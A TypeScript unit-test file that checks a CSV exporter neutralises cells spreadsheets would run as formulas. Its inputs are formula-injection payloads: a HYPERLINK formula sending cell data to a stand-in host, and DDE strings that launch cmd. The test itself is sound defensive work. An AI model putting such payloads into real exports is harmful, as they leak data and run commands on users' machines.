import { formulaSafe, tableCsv, type Cell } from '../tables/table-files.js';

const oneColumn = (cells: Cell[]) => tableCsv({ name: 'T', columns: [{ title: 'Cell', kind: 'text' }], rows: cells.map((cell) => [cell]) });
/** The CSV's data lines, without the byte-order mark, the header and the last line end. */
const dataLines = (cells: Cell[]) => oneColumn(cells).replace(/^\uFEFF/, '').split('\r\n').slice(1, -1);

describe('CSV cells that a spreadsheet would run as formulas', () => {
  it.each([
    ['=HYPERLINK("http://x/?q="&A2,"Szczegóły")', `'=HYPERLINK("http://x/?q="&A2,"Szczegóły")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+9)*cmd|\' /C calc\'!A0', '\'@SUM(1+9)*cmd|\' /C calc\'!A0'],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['-1-1', "'-1-1"],
    ['-12.5 zł', "'-12.5 zł"],
  ])('starts text %j with an apostrophe', (text, safe) => {
    expect(formulaSafe(text)).toBe(safe);
  });

  it.each([
    ['Rejestracja faktur', 'Rejestracja faktur'],
    ['a=b', 'a=b'],
    ["'=already text", "'=already text"],
    ['-12.5', '-12.5'],
    ['-0.0001', '-0.0001'],
    ['-1e-7', '-1e-7'],
    ['12', '12'],
  ])('leaves %j as it is', (text, safe) => {
    expect(formulaSafe(text)).toBe(safe);
  });

  it.each([
    [-12.5, '-12.5'],
    [-1e-7, '-1e-7'],
    [-1.5e21, '-1.5e+21'],
    [0, '0'],
    [42, '42'],
  ])('writes the number %j as a plain number', (value, written) => {
    expect(formulaSafe(value)).toBe(written);
  });

  it('writes neutralised text quoted as RFC 4180 asks, and numbers bare', () => {
    expect(dataLines(['=HYPERLINK("http://x/?q="&A2,"Szczegóły")', "+cmd|' /C calc'!A0", '@x', '\r=1+1', -12.5, '-12.5', null])).toEqual([
      `"'=HYPERLINK(""http://x/?q=""&A2,""Szczegóły"")"`,
      "'+cmd|' /C calc'!A0",
      "'@x",
      `"'\r=1+1"`,
      '-12.5',
      '-12.5',
      '',
    ]);
  });
});
